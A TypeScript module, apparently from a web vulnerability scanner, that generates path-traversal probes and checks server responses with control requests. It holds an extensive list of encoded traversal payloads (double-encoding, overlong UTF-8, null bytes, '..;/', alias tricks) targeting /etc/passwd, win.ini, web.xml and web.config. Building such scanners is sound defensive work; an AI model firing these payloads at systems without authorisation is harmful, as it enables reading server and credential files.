import type { Fill } from '../../points/point.ts';
import { kernel, passwd, webConfig, webXml, winIni, only, type KnownFile } from './files.ts';
import { bodyText, mediaType, type HttpAnswer } from '#probes/http/answer.ts';
import type { Rule, Scan } from '../../rule.ts';
import { byDepth } from './likely.ts';

/** Spellings of the way up through folders, the likelier first. */

export type Climb = {
  file: KnownFile;
  value: string;
  fill?: Fill;
  /** What a search would find the same pages by: an answer that holds the file for it too is about the file, not the file. */
  control: string;
};

// Longer than any folder is deep: what is too much leads to the root all the same.
const steps = 12;
const up = (step: string, path: string) => `${step.repeat(steps)}${path}`;
const raw = { raw: true } as const;

const extensionOf = (value: string) => /\.[a-z]\w{1,5}$/i.exec(value)?.[0] ?? '';
const folderOf = (value: string) =>
  (/^[^?#]*[/\\]/.exec(value)?.[0] ?? '').replace(/^https?:\/\/[^/]*\//, '');

type Site = { windows: boolean; java: boolean; aspnet: boolean; php: boolean };

const words = (file: KnownFile, mark: string) => `${file.path.replace(/\W+/g, ' ')} ${mark}`;

export function climbs(value: string, site: Site, mark: string): Climb[] {
  const list: Climb[] = [];
  const add = (file: KnownFile, text: string, fill?: Fill) =>
    list.push({
      file,
      value: text,
      control: text.startsWith('/') ? text.replace(/^\/+/, '') : words(file, mark),
      ...(fill ? { fill } : {}),
    });
  const folder = folderOf(value);
  const extension = extensionOf(value);
  const windowsPath = winIni.path.replaceAll('/', '\\');

  add(passwd, up('../', passwd.path));
  if (site.windows) add(winIni, up('..\\', windowsPath));
  add(passwd, '/etc/passwd');
  if (folder !== '') add(passwd, `${folder}${up('../', passwd.path)}`);
  add(passwd, up('....//', passwd.path));
  if (site.java) add(webXml, '../../WEB-INF/web.xml');
  if (site.aspnet) add(webConfig, '../web.config');
  add(passwd, up('..%252f', 'etc%252fpasswd'), raw);
  if (!site.windows) add(winIni, up('../', winIni.path));
  if (extension !== '') add(passwd, `${up('../', passwd.path)}\0${extension}`);
  add(passwd, `file:///etc/passwd`);
  add(passwd, `${up('../', passwd.path)}\0`);
  add(winIni, `C:\\${windowsPath}`);
  if (!site.windows) add(winIni, up('..\\', windowsPath));
  add(passwd, up('..%c0%af', passwd.path), raw);
  add(passwd, up('%2e%2e/', passwd.path), raw);
  if (extension !== '') add(passwd, `${up('../', passwd.path)}%2500${extension}`, raw);
  add(passwd, up('..././', passwd.path));
  add(passwd, up('%252e%252e%252f', passwd.path), raw);
  add(passwd, up('..%u2215', passwd.path), raw);
  add(passwd, up('..%ef%bc%8f', passwd.path), raw);
  add(passwd, up('..;/', passwd.path));
  add(passwd, up('..\\', 'etc\\passwd'));
  add(winIni, up('....\\\\', windowsPath));
  add(winIni, up('..%255c', 'windows%255cwin.ini'), raw);
  if (folder !== '') add(winIni, `${folder}${up('..\\', windowsPath)}`);
  if (extension !== '') add(passwd, `${up('../', passwd.path)}?${extension}`);
  if (site.java) add(webXml, '/WEB-INF/web.xml');
  if (site.java) add(webXml, '../WEB-INF/web.xml');
  if (site.aspnet) add(webConfig, '../../web.config');
  if (site.aspnet) add(webConfig, '~/web.config');
  add(passwd, `/${up('../', passwd.path)}`);
  add(passwd, `//////${passwd.path}`);
  return list;
}

/** For a firewall that looks for the name of the file. */
export const beside = (mark: string): Climb => ({
  file: kernel,
  value: up('../', kernel.path),
  control: words(kernel, mark),
});

/** Addresses below a folder that lead out of it where the server itself puts paths together; as they go on the wire. */
export function paths(folder: string): { file: KnownFile; rawPath: string }[] {
  return [
    { file: passwd, rawPath: `${folder}${up('..%2f', 'etc%2fpasswd')}` },
    { file: passwd, rawPath: `${folder}${up('../', passwd.path)}` },
    { file: passwd, rawPath: `${folder}${up('.%2e/', passwd.path)}` },
    { file: winIni, rawPath: `${folder}${up('..%5c', 'windows%5cwin.ini')}` },
    { file: passwd, rawPath: `${folder}${up('%2e%2e%2f', passwd.path)}` },
    { file: passwd, rawPath: `${folder}${up('..%252f', passwd.path)}` },
    { file: passwd, rawPath: `${folder}${up('.%%32%65/', passwd.path)}` },
    { file: passwd, rawPath: `${folder}${up('..;/', passwd.path)}` },
    { file: passwd, rawPath: `${folder}${up('....//', passwd.path)}` },
    { file: passwd, rawPath: `${folder}${up('%c0%ae%c0%ae/', passwd.path)}` },
    { file: winIni, rawPath: `${folder}${up('..%c1%9c', winIni.path)}` },
  ];
}

function foldersOf(scan: Scan): { folder: string; file: URL }[] {
  const files = [
    ...scan.site.paths,
    ...scan.site.scripts.keys(),
    ...scan.site.pages.flatMap(({ page }) => page.styles.map(({ url }) => url)),
  ];
  const found = new Map<string, { folder: string; file: URL; count: number }>();
  for (const text of files) {
    if (!URL.canParse(text, scan.base.href)) continue;
    const file = new URL(text, scan.base);
    if (
      !scan.inScope(file) ||
      file.origin !== scan.base.origin ||
      !/\.(?:css|js|mjs|png|jpe?g|gif|svg|ico|txt|pdf|woff2?)$/i.test(file.pathname)
    )
      continue;
    const folder = /^\/[^/]+\//.exec(file.pathname)?.[0];
    if (!folder) continue;
    const known = found.get(folder);
    if (known) known.count += 1;
    else found.set(folder, { folder, file, count: 1 });
  }
  return [...found.values()].sort((a, b) => b.count - a.count);
}

const same = (a: HttpAnswer, b: HttpAnswer) =>
  a.status === 200 && b.status === 200 && mediaType(a) === mediaType(b) && a.body.equals(b.body);

/** An alias without its slash: `/static../static/x.css` is the file, reached from one folder above. */
async function tryAlias(scan: Scan, rule: Rule, folder: string, file: URL): Promise<boolean> {
  const name = folder.slice(1, -1);
  const ask = (inserted: string) =>
    scan.ask(new URL(`/${name}${inserted}${file.pathname}`, scan.base), {
      rawPath: `/${name}${inserted}${file.pathname}`,
    });
  const answer = await ask('..');
  if (answer?.status !== 200 || answer.body.length < 20) return false;
  const [plain, control] = [await scan.ask(file), await ask(scan.mark)];
  if (!plain || !same(plain, answer) || (control && same(plain, control))) return false;
  scan.report(rule, {
    answer,
    payload: `/${name}..${file.pathname}`,
    url: new URL(folder, scan.base).href,
    parameter: 'path',
    evidence: `/${name}..${file.pathname} gives the file ${file.pathname}: files one folder above ${folder} can be read.`,
  });
  return true;
}

/** Servers that put the path of the address to a folder by themselves. */
export async function tryAddresses(scan: Scan, rule: Rule): Promise<void> {
  const folders = foldersOf(scan).slice(0, byDepth(scan, 2, 4, 12));
  for (const { folder, file } of folders) if (await tryAlias(scan, rule, folder, file)) break;
  const number = byDepth(scan, 2, 4, 99);
  const roots = [
    '/',
    ...folders.map(({ folder }) => folder),
    ...(scan.site.tech.has('apache') && scan.depth !== 'few' ? ['/cgi-bin/', '/icons/'] : []),
  ];
  for (const folder of roots) {
    for (const { file, rawPath } of paths(folder).slice(0, number)) {
      const answer = await scan.ask(new URL(folder, scan.base), { rawPath, maxBytes: 200_000 });
      const seen = answer && answer.status < 400 ? file.find(bodyText(answer)) : null;
      if (!answer || !seen || file.find(bodyText(scan.front)) !== null) continue;
      // The same words without a way up: a page that answers to anything, or that tells about the file.
      const control = await scan.ask(new URL(folder, scan.base), {
        rawPath: `${folder}${scan.mark}-${file.path.replace(/\W+/g, '-')}`,
        maxBytes: 200_000,
      });
      if (!control || file.find(bodyText(control)) !== null) continue;
      scan.report(rule, {
        answer: only(answer, seen),
        payload: rawPath,
        url: new URL(folder, scan.base).href,
        parameter: 'path',
        evidence: `The address ${rawPath} gives the file ${file.name} of the server: ${seen}`,
      });
      return;
    }
  }
}
